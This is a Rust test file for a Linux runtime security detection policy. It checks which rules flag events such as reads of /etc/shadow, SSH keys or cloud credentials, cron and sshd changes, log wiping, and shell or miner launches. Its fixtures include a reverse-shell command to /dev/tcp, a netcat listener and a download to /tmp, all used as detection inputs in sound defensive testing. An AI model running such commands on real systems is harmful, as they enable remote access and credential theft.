//! What the embedded policy matches and what it leaves alone.

use super::options;
use crate::event::testing::{event, file_event, process};
use crate::event::{Body, Event, EventType, Fields};
use crate::policy::{RuleSet, Source};
use EventType::{Chmod, Chown, Open};

fn default_policy() -> RuleSet {
    RuleSet::load(&[Source::embedded()], &options(), &Fields)
}

fn matching(event: &Event) -> Vec<String> {
    let set = default_policy();
    let rules = set.rules(event.kind.name()).iter();
    rules
        .filter(|rule| rule.compiled.matches(event))
        .map(|rule| rule.id.clone())
        .collect()
}

/// The rules that match a file event by `program`, a child of a shell.
fn by(program: &str, kind: EventType, path: &str, argument: i32) -> Vec<String> {
    let arguments = [u32::try_from(argument).unwrap(), 0, 0, 0];
    let mut event = file_event(kind, path, arguments);
    let shell = event.process.parent.clone();
    event.process = process(1001, &[program], program, shell.as_ref());
    matching(&event)
}

fn exec(args: &[&str], path: &str, parent: &str) -> Event {
    let init = process(1, &["/sbin/init"], "/usr/lib/systemd/systemd", None);
    let parent = process(1000, &[parent], parent, Some(&init));
    let mut found = event(EventType::Exec, process(1001, args, path, Some(&parent)));
    found.body = Body::Exec {
        syscall_path: path.to_owned(),
    };
    found
}

#[test]
fn the_default_policy_loads_whole() {
    let set = default_policy();
    let problems: Vec<String> = set
        .report()
        .problems()
        .iter()
        .map(ToString::to_string)
        .collect();
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(set.report().policies[0].warnings.is_empty());
    assert_eq!(
        set.event_types(),
        ["chmod", "chown", "exec", "exit", "open"]
    );
    assert!(set.all().count() >= 20);
    for rule in set.all() {
        assert!(!rule.description.is_empty(), "{}", rule.id);
        assert!(rule.tags["tactic"].starts_with("TA0"), "{}", rule.id);
        assert!(rule.tags["technique"].starts_with('T'), "{}", rule.id);
    }
}

const WRITE: i32 = libc::O_WRONLY | libc::O_CREAT;

/// Program, event, path, flags or mode or owner, and the rules that match.
const FILE_EVENTS: &[(&str, EventType, &str, i32, &str)] = &[
    (
        "/usr/bin/cat",
        Open,
        "/etc/shadow",
        0,
        "shadow_file_accessed",
    ),
    ("/tmp/sshd", Open, "/etc/shadow", 0, "shadow_file_accessed"),
    (
        "/bin/busybox",
        Open,
        "/etc/shadow",
        0,
        "shadow_file_accessed",
    ),
    ("/usr/sbin/sshd", Open, "/etc/shadow", 0, ""),
    (
        "/usr/lib/systemd/systemd-userwork",
        Open,
        "/etc/shadow",
        0,
        "",
    ),
    ("/usr/bin/sudo", Open, "/etc/gshadow", 0, ""),
    ("/usr/bin/cat", Open, "/etc/passwd", 0, ""),
    (
        "/usr/bin/bash",
        Open,
        "/etc/passwd",
        WRITE,
        "account_file_changed",
    ),
    ("/usr/sbin/useradd", Open, "/etc/passwd", libc::O_RDWR, ""),
    (
        "/usr/bin/vi",
        Open,
        "/etc/sudoers.d/x",
        WRITE,
        "sudo_rules_changed",
    ),
    ("/usr/bin/cat", Open, "/etc/sudoers.d/x", 0, ""),
    (
        "/usr/bin/cp",
        Open,
        "/home/ann/.ssh/id_ed25519",
        0,
        "private_key_accessed",
    ),
    ("/usr/bin/cp", Open, "/home/ann/.ssh/id_ed25519.pub", 0, ""),
    ("/usr/bin/ssh", Open, "/home/ann/.ssh/id_ed25519", 0, ""),
    (
        "/usr/bin/cat",
        Open,
        "/root/.aws/credentials",
        0,
        "cloud_credentials_read",
    ),
    (
        "/usr/bin/bash",
        Open,
        "/root/.ssh/authorized_keys",
        WRITE,
        "authorized_keys_changed",
    ),
    ("/usr/sbin/sshd", Open, "/root/.ssh/authorized_keys", 0, ""),
    (
        "/usr/bin/tee",
        Open,
        "/etc/ssh/sshd_config",
        WRITE,
        "ssh_server_configuration_changed",
    ),
    (
        "/usr/bin/vi",
        Open,
        "/etc/cron.d/job",
        WRITE,
        "cron_job_changed",
    ),
    (
        "/usr/bin/crontab",
        Open,
        "/var/spool/cron/crontabs/tmp.1",
        WRITE,
        "cron_job_changed",
    ),
    (
        "/usr/bin/tee",
        Open,
        "/etc/systemd/system/x.service",
        WRITE,
        "service_definition_changed",
    ),
    (
        "/usr/bin/dpkg",
        Open,
        "/usr/lib/systemd/system/x.service",
        WRITE,
        "",
    ),
    (
        "/usr/bin/tee",
        Open,
        "/etc/profile.d/x.sh",
        WRITE,
        "login_script_changed",
    ),
    (
        "/usr/bin/tee",
        Open,
        "/etc/ld.so.preload",
        WRITE,
        "dynamic_linker_configuration_changed",
    ),
    ("/usr/sbin/sshd", Open, "/etc/ld.so.preload", 0, ""),
    (
        "/usr/bin/cp",
        Open,
        "/lib/modules/6.1/x.ko",
        WRITE,
        "kernel_module_file_changed",
    ),
    (
        "/usr/bin/kmod",
        Open,
        "/usr/lib/modules/6.1/modules.dep",
        WRITE,
        "",
    ),
    (
        "/usr/bin/cp",
        Open,
        "/etc/pam.d/sshd",
        WRITE,
        "authentication_modules_changed",
    ),
    (
        "/usr/bin/truncate",
        Open,
        "/root/.bash_history",
        WRITE,
        "shell_history_changed",
    ),
    (
        "/usr/bin/bash",
        Open,
        "/root/.bash_history",
        WRITE | libc::O_TRUNC,
        "",
    ),
    (
        "/usr/bin/bash",
        Open,
        "/var/log/auth.log",
        WRITE | libc::O_TRUNC,
        "log_emptied",
    ),
    (
        "/usr/sbin/rsyslogd",
        Open,
        "/var/log/auth.log",
        WRITE | libc::O_APPEND,
        "",
    ),
    (
        "/usr/bin/gdb",
        Open,
        "/proc/7/mem",
        libc::O_RDWR,
        "process_memory_opened_for_writing",
    ),
    ("/usr/bin/gdb", Open, "/proc/7/maps", 0, ""),
    (
        "/usr/bin/bash",
        Open,
        "/proc/sys/kernel/core_pattern",
        WRITE,
        "kernel_helper_changed",
    ),
    (
        "/usr/bin/chmod",
        Chmod,
        "/tmp/x",
        0o777,
        "permissions_opened_to_everyone",
    ),
    ("/usr/bin/chmod", Chmod, "/tmp/x", 0o755, ""),
    ("/usr/bin/chmod", Chmod, "/tmp/x", 0o1777, ""),
    (
        "/usr/bin/chmod",
        Chmod,
        "/tmp/d/datadog_agent_cws_target_file1",
        0o777,
        "",
    ),
    ("/usr/bin/chmod", Chmod, "/tmp/x", 0o4755, "setuid_bit_set"),
    (
        "/usr/bin/chmod",
        Chmod,
        "/etc/shadow",
        0o644,
        "account_file_mode_changed",
    ),
    (
        "/usr/bin/chown",
        Chown,
        "/etc/sudoers",
        1000,
        "account_file_owner_changed",
    ),
    (
        "/usr/bin/chown",
        Chown,
        "/usr/bin/ls",
        1000,
        "system_program_owner_changed",
    ),
    ("/usr/bin/chown", Chown, "/home/ann/x", 1000, ""),
];

#[test]
fn file_events_of_the_default_policy() {
    for (program, kind, path, argument, expected) in FILE_EVENTS {
        let expected: Vec<&str> = expected.split_whitespace().collect();
        assert_eq!(
            by(program, *kind, path, *argument),
            expected,
            "{program} {path}"
        );
    }
}

/// Arguments, program, parent, and the rules that match.
const EXECS: &[(&[&str], &str, &str, &str)] = &[
    (&["ls", "-l"], "/usr/bin/ls", "/usr/bin/bash", ""),
    (
        &["./x"],
        "/tmp/a/x",
        "/usr/bin/bash",
        "program_run_from_temporary_directory",
    ),
    (
        &["x"],
        "memfd:x",
        "/usr/bin/bash",
        "program_run_from_memory",
    ),
    (
        &["sh", "-c", "id"],
        "/usr/bin/dash",
        "/usr/sbin/nginx",
        "shell_from_network_service",
    ),
    (
        &["sh"],
        "/usr/bin/dash",
        "/usr/sbin/php-fpm8.2",
        "shell_from_network_service",
    ),
    (&["-bash"], "/usr/bin/bash", "/usr/sbin/sshd", ""),
    (
        &["sh"],
        "/usr/bin/dash",
        "/usr/sbin/mysqld",
        "shell_from_database",
    ),
    (
        &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/99"],
        "/usr/bin/bash",
        "/usr/bin/bash",
        "shell_connected_to_network",
    ),
    (
        &["nc", "-l"],
        "/usr/bin/nc.openbsd",
        "/usr/bin/bash",
        "network_tool_started",
    ),
    (
        &["nc", "-l"],
        "/bin/busybox",
        "/bin/busybox",
        "network_tool_started",
    ),
    (&["ls"], "/bin/busybox", "/bin/busybox", ""),
    (
        &["curl", "-o", "/tmp/x", "http://a"],
        "/usr/bin/curl",
        "/usr/bin/bash",
        "download_to_temporary_directory",
    ),
    (
        &["apt", "install"],
        "/usr/bin/apt",
        "/usr/bin/bash",
        "package_manager_in_container",
    ),
    (
        &["a", "-o", "stratum+tcp://b"],
        "/opt/a",
        "/usr/bin/bash",
        "cryptocurrency_miner_started",
    ),
    (
        &["insmod", "x.ko"],
        "/usr/bin/kmod",
        "/usr/bin/bash",
        "kernel_module_inserted_by_hand",
    ),
    (
        &["/sbin/modprobe", "x"],
        "/usr/bin/kmod",
        "/usr/bin/bash",
        "",
    ),
];

#[test]
fn exec_events_of_the_default_policy() {
    for (args, path, parent, expected) in EXECS {
        let expected: Vec<&str> = expected.split_whitespace().collect();
        assert_eq!(matching(&exec(args, path, parent)), expected, "{args:?}");
    }
}

#[test]
fn environments_and_exits_of_the_default_policy() {
    let with_env = |variable: &str| {
        let mut found = exec(&["a"], "/usr/bin/a", "/usr/bin/bash");
        let mut image = (*found.process.image).clone();
        image.envs = vec![variable.to_owned()];
        let info = found.process.info.clone();
        let (parent, cgroup) = (found.process.parent.clone(), found.process.cgroup());
        let identity = found.process.identity();
        let process = crate::event::Process::new(info, image.into(), parent, identity, cgroup);
        found.process = process.into();
        matching(&found)
    };
    assert_eq!(
        with_env("LD_PRELOAD=/tmp/x.so"),
        ["library_preloaded_from_writable_directory"]
    );
    assert!(with_env("LD_PRELOAD=/usr/lib/x.so").is_empty());
    assert_eq!(with_env("HISTSIZE=0"), ["shell_history_disabled"]);
    assert_eq!(with_env("GLIBC_TUNABLES=a=b=c"), ["glibc_tunables_exploit"]);

    let exit = |cause, code| {
        let mut found = exec(&["nginx"], "/usr/sbin/nginx", "/usr/bin/bash");
        found.kind = EventType::Exit;
        found.body = Body::Exit { cause, code };
        matching(&found)
    };
    assert_eq!(exit(1, 11), ["network_service_crashed"]);
    assert_eq!(exit(2, 11), ["network_service_crashed"]);
    assert!(exit(2, 15).is_empty() && exit(0, 1).is_empty());
}

#[test]
fn package_scripts_are_trusted_below_their_manager_only() {
    let mut event = file_event(EventType::Open, "/etc/shadow", [0; 4]);
    let dpkg = process(900, &["dpkg"], "/usr/bin/dpkg", None);
    let script = process(
        901,
        &["x.postinst"],
        "/var/lib/dpkg/info/x.postinst",
        Some(&dpkg),
    );
    event.process = process(902, &["grep"], "/usr/bin/grep", Some(&script));
    assert!(matching(&event).is_empty());
    event.process = process(902, &["grep"], "/usr/bin/grep", None);
    assert_eq!(matching(&event), ["shadow_file_accessed"]);
}
